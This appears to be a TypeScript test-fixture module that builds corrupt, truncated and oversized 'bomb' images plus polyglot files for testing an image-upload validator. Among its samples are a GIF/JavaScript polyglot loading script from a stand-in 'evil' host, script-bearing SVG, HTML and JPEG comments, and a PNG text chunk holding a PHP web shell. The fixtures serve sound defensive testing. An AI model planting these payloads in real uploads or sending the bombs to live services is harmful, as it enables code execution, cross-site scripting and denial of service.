import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { animation, heic } from './specimens.ts'

const noise = (width: number, height: number) =>
  sharp({
    create: {
      width,
      height,
      channels: 3,
      background: '#888',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })

/** Cut in the middle of the picture data. */
export async function truncated(format: 'jpeg' | 'png' | 'webp' | 'avif' | 'gif' | 'heic'): Promise<Buffer> {
  const whole = format === 'heic' ? await heic('upright') : await noise(200, 150).toFormat(format).toBuffer()
  return whole.subarray(0, Math.floor(whole.length * 0.7))
}

/** Begins and ends as it should; nonsense in the tables between. */
export async function corruptJpeg(): Promise<Buffer> {
  const file = await noise(200, 150).jpeg().toBuffer()
  file.fill(0xab, 25, 180)
  return file
}

/** A PNG whose header and end are in order: only a decoder finds out. */
export async function corruptPng(): Promise<Buffer> {
  const file = await noise(200, 150).png().toBuffer()
  file.fill(0xab, Math.floor(file.length * 0.3), Math.floor(file.length * 0.6))
  return file
}

/** A few hundred bytes that say they are 900 megapixels. */
export function pngBomb(edge = 30_000): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(edge, 0)
  header.writeUInt32BE(edge, 4)
  header.set([8, 2, 0, 0, 0], 8)
  const data = deflateSync(Buffer.alloc(100_000))
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', data),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** A JPEG whose frame header claims 65 000 × 65 000. */
export async function jpegBomb(): Promise<Buffer> {
  const file = await noise(64, 64).jpeg().toBuffer()
  const frame = file.indexOf(Buffer.from([0xff, 0xc0]))
  file.writeUInt16BE(65_000, frame + 5)
  file.writeUInt16BE(65_000, frame + 7)
  return file
}

/** A HEIC whose declared extent is 30 000 × 30 000. */
export async function heicBomb(): Promise<Buffer> {
  const file = Buffer.from(await heic('upright'))
  const extent = file.indexOf('ispe')
  file.writeUInt32BE(30_000, extent + 8)
  file.writeUInt32BE(30_000, extent + 12)
  return file
}

export async function apng(frames = 2): Promise<Buffer> {
  const png = await noise(32, 32).png().toBuffer()
  const control = pngChunk('acTL', Buffer.from([0, 0, 0, frames, 0, 0, 0, 0]))
  return Buffer.concat([png.subarray(0, 33), control, png.subarray(33)])
}

/** A JPEG whose last `bytes` are missing: the first two are its end marker. */
export async function jpegWithoutEnd(bytes = 2): Promise<Buffer> {
  const whole = await noise(200, 150).jpeg().toBuffer()
  return whole.subarray(0, whole.length - bytes)
}

export async function avifSequence(): Promise<Buffer> {
  const file = await noise(32, 32).avif({ effort: 0 }).toBuffer()
  file.write('avis', 8, 'latin1')
  return file
}

export const svg = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="99" height="99"><script>alert(1)</script></svg>',
)
export const html = Buffer.from('<!doctype html><html><body onload="alert(1)">not a picture</body></html>')
export const pdf = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n')
export const nonsense = Buffer.from(
  'The quick brown fox jumps over the lazy dog, twice in a row, to be long enough.',
)

/** Pictures that are something else as well. */
export const polyglots: Record<string, () => Promise<Buffer>> = {
  /** The old trick: width and height spell the start of a comment, and the file is a valid script. */
  'GIF and script': async () =>
    Buffer.from('GIF89a/*\0\0\0\0*/=1;document.write("<script src=//evil></script>");//;'),
  'JPEG with a page in its comment': async () => {
    const file = await noise(64, 64).jpeg().toBuffer()
    const text = Buffer.from('<html><script>alert(document.domain)</script>')
    const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, text.length + 2]), text])
    return Buffer.concat([file.subarray(0, 2), comment, file.subarray(2)])
  },
  'PNG with a program in its text': async () => {
    const file = await noise(64, 64).png().toBuffer()
    return Buffer.concat([
      file.subarray(0, 33),
      pngChunk('tEXt', Buffer.from('Comment\0<?php system($_GET[1]); ?>')),
      file.subarray(33),
    ])
  },
  'JPEG with an archive behind it': async () => {
    const end = Buffer.alloc(22)
    end.write('PK\x05\x06', 0, 'latin1')
    return Buffer.concat([await noise(64, 64).jpeg().toBuffer(), Buffer.from('PK\x03\x04'), end])
  },
  'GIF with a page behind it': async () => Buffer.concat([await noise(32, 32).gif().toBuffer(), html]),
  'PDF inside a JPEG': async () => {
    const file = await noise(64, 64).jpeg().toBuffer()
    return Buffer.concat([
      file.subarray(0, 2),
      Buffer.from([0xff, 0xfe, 0, pdf.length + 2]),
      pdf,
      file.subarray(2),
    ])
  },
}

export const animated: Record<string, () => Promise<Buffer>> = {
  'image/gif': () => animation('gif'),
  'image/webp': () => animation('webp'),
  'image/png': apng,
  'image/avif': avifSequence,
}

function pngChunk(kind: string, body: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(kind, 'latin1'), body])
  const chunk = Buffer.alloc(named.length + 8)
  chunk.writeUInt32BE(body.length, 0)
  named.copy(chunk, 4)
  chunk.writeUInt32BE(crc32(named), named.length + 4)
  return chunk
}
